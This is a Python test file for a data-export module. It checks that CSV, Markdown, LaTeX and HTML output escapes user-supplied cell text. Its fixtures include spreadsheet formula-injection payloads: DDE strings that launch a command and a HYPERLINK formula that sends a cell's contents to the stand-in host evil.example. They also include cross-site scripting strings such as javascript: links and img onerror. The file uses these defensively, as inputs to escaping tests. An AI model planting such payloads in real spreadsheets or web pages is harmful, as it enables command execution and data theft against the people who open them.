"""export: cells carrying user text cannot leave a Markdown table nor become spreadsheet formulas."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from combotherapy import export

# payloads from the hardening issue: spreadsheet formulas (DDE, HYPERLINK) and Markdown break-outs
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-x"]
NUMBER_TEXT = ["-1.5", "+2", "-0.25 (-0.5 to 0.1)", "-3%", "-1e-05", "12.3 (4.5)"]


def _read_back(text: str, **kw) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), keep_default_na=False, **kw)


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_neutralises_formula_text(payload):
    df = pd.DataFrame({"label": [payload, "physio"], "estimate": [-1.5, 2.0]})
    back = _read_back(export.to_csv(df))
    # a carriage return becomes a line feed (CSV quotes a field with a line feed, not one with a lone CR)
    assert back["label"].tolist() == ["'" + payload.replace("\r", "\n"), "physio"]  # shown as text by a spreadsheet, never evaluated
    assert back["estimate"].tolist() == [-1.5, 2.0]  # numbers stay numbers, negative ones included


@pytest.mark.parametrize("text", NUMBER_TEXT)
def test_csv_keeps_numbers_written_as_text(text):
    back = _read_back(export.to_csv(pd.DataFrame({"cell": [text]})), dtype=str)
    assert back["cell"].tolist() == [text]


def test_csv_neutralises_headers_index_and_every_text_dtype():
    df = pd.DataFrame({"=evil()": pd.Series(["=a", None], dtype="string"),
                       "cat": pd.Categorical(["@b", "ok"]), "n": [1, 2], "x": [np.nan, -0.5]})
    df.index = pd.Index(["-c", "d"], name="row")
    safe = export.spreadsheet_safe(df)
    assert list(safe.columns) == ["'=evil()", "cat", "n", "x"]
    assert safe.iloc[0, 0] == "'=a" and pd.isna(safe.iloc[1, 0]) and safe["cat"].tolist() == ["'@b", "ok"]
    assert safe.index.tolist() == ["'-c", "d"]
    assert safe["n"].tolist() == [1, 2] and safe["x"].iloc[1] == -0.5
    assert df.iloc[0, 0] == "=a"  # the input frame is not modified


def test_export_table_csv_goes_through_the_same_escaping(tmp_path):
    path = export.export_table(pd.DataFrame({"arm": ["=1+1"], "v": [-1.0]}), tmp_path / "t.csv")
    assert path.read_text().splitlines() == ["arm,v", "'=1+1,-1.0"]


def test_markdown_label_with_newlines_stays_in_its_cell():
    label = "physio\n\n# Heading\n[click](javascript:alert(1))\r\n<img src=x onerror=alert(1)>\u2028- item"
    md = export.to_markdown(pd.DataFrame({"arm": [label, "combined"], "estimate": [1.0, 2.0]}))
    lines = md.splitlines()
    assert len(lines) == 4 and all(line.startswith("|") and line.endswith("|") for line in lines)
    assert lines[2].count(" | ") == 1  # two cells: the label did not split
    assert "](javascript" not in md and "<img" not in md and "&lt;img" in md


@pytest.mark.parametrize("cell, expected", [
    ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
    ("<!-- hidden -->", "&lt;!-- hidden -->"),
    ("&#x3C;b&#x3E;", "&amp;#x3C;b&amp;#x3E;"),
    ("a|b", "a\\|b"),
    ("a\\|b", "a\\\\\\|b"),             # a trailing backslash cannot swallow the escape of the pipe
    ("![x](http://t/p.png)", "![x]\\(http://t/p.png)"),
    ("bell\x07 and escape\x1b[31m", "bell and escape[31m"),
    # ordinary text is unchanged: comparisons, factor labels of model terms, ampersands between words
    ("< 40", "< 40"), (">= 60", ">= 60"), ("arm[combined]:visit[12]", "arm[combined]:visit[12]"),
    ("A & B", "A & B"),
])
def test_markdown_cell_escaping(cell, expected):
    assert export.markdown_cell(cell) == expected


def test_markdown_header_is_escaped_too():
    md = export.to_markdown(pd.DataFrame({"a|b\nc": [1]}))
    assert md.splitlines()[0] == "| a\\|b c |"


def test_latex_cell_with_newlines_stays_one_row():
    tex = export.to_latex(pd.DataFrame({"arm": ["a\n\nb"]}))
    assert "a  b \\\\" in tex and "\n\n" not in tex


def test_html_escapes_markup():
    assert "&lt;script&gt;" in export.to_html(pd.DataFrame({"arm": ["<script>"]}))
